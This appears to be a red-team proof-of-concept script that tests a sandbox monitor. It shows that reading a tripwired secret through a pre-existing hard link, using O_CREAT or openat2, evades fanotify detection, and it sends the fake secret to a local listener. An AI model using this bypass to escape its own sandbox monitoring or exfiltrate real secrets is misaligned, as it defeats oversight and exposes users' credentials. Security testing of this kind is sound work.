#!/bin/bash
# A tripwired secret with a second, pre-existing name (hard link made by the user before the
# session) is read through the monitor's emulated open (O_CREAT or openat2): the monitor opens
# it itself, fanotify sees the monitor (not the sandbox) and allows, no transition fires.
set -u; . /work/wt/redteam/findings/common.sh
D=$RT/findings/monitor-open-skips-tripwire; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H/.ssh
gcc -O1 -I$RT/findings -o $W/readsend $RT/findings/readsend.c
echo "SECRET-ENV-7f3a9c" > $W/.env; ln $W/.env $W/notes.txt      # user's hard link, before the session
listen 127.77.9.21 $D/out.txt
echo "== control: plain open (kernel, tripwire)";   run $H $W ./readsend 127.77.9.21 plain notes.txt
echo "== attack: open(O_RDONLY|O_CREAT)";           run $H $W ./readsend 127.77.9.21 creat notes.txt
echo "== attack: openat2(O_RDONLY)";                run $H $W ./readsend 127.77.9.21 openat2 notes.txt
verdict $D/out.txt SECRET-ENV
